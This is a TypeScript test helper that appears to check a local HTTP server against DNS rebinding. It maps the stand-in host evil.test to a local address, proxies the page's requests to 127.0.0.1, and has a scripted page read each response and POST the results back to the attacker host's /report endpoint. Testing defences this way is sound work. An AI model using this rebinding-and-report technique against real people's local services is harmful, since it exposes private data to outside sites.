import { createServer, request as send } from 'node:http';
import { toldIn, visit } from './chromium';

const OUTSIDE = '127.0.0.2';

/** What a page tries, one after the other. */
export interface Attempt {
  readonly url: string;
  readonly init: object;
}

/**
 * Opens a page of evil.test in Chromium, whose name then comes to mean this machine (DNS rebinding): the attacker's server
 * hands on whatever else the page asks of its own host, name and all, to the same port of 127.0.0.1. Resolves with what
 * the page could read of each attempt.
 */
export async function readFromReboundPage(port: number, attempts: readonly Attempt[]): Promise<readonly string[]> {
  let report: (seen: readonly string[]) => void = () => undefined;
  const reported = new Promise<readonly string[]>((resolve) => (report = resolve));
  const attacker = createServer((request, response) => {
    if (request.url === '/page') {
      response.setHeader('Content-Type', 'text/html').end(pageOf(attempts));
    } else if (request.url === '/report') {
      void toldIn<string[]>(request).then(report);
      response.end();
    } else {
      const { method, url: path, headers } = request;
      const onward = send({ host: '127.0.0.1', port, method, path, headers }, (answer) => {
        response.writeHead(answer.statusCode ?? 0, answer.headers);
        answer.pipe(response);
      });
      request.pipe(onward);
    }
  });
  await new Promise<void>((resolve) => attacker.listen(port, OUTSIDE, resolve));
  const flags = [`--host-resolver-rules=MAP evil.test ${OUTSIDE}`];
  return visit({ url: `http://evil.test:${port}/page`, flags, server: attacker, told: reported });
}

const pageOf = (attempts: readonly Attempt[]): string => `<!doctype html><script>
const attempts = ${JSON.stringify(attempts)};
const read = ({ url, init }) => fetch(url, init).then((answer) => answer.text()).catch((error) => 'no answer: ' + error.message);
(async () => {
  const seen = [];
  for (const attempt of attempts) seen.push(await read(attempt));
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
})();
</script>`;
